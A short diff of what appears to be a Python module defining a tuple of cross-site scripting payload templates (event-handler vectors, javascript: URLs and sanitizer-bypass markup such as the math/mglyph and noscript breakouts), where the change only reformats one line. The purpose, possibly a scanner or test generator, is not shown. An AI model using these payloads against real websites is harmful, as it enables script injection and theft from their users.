@@ -10,7 +10,8 @@ _TAGS = (
     "<svg onload={0}>", "<svg/onload={0}//", "<svg><script>{0}</script></svg>", "<body onload={0}>",
     "<details open ontoggle={0}>x</details>", "<input autofocus onfocus={0}>", "<video src=x onerror={0}></video>",
     "<audio src=x onerror={0}>", "<marquee onstart={0}>x</marquee>", "<iframe srcdoc='<script>{0}</script>'></iframe>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror={0}>", "<template><script>{0}</script></template>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
+    "<template><script>{0}</script></template>",
     "<noscript><p title='</noscript><img src=x onerror={0}>'>", "<select autofocus onfocus={0}>",
     "<a href='javascript:{0}' autofocus onfocus={0}>x</a>", "<form action='javascript:{0}'><button>go</button></form>",
 )  # fmt: skip
